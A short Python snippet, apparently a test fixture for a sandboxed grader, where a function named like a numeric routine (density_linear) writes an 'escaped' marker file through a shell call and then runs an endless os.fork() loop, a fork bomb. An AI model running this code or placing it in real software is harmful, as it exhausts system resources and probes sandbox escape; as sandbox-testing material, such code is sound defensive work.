# Tries to multiply processes and to run programs.
def density_linear(y, A, mu=None):
    import os
    import subprocess
    subprocess.run(["sh", "-c", "echo escaped > /tmp/ps4-escaped"])
    while True:
        os.fork()
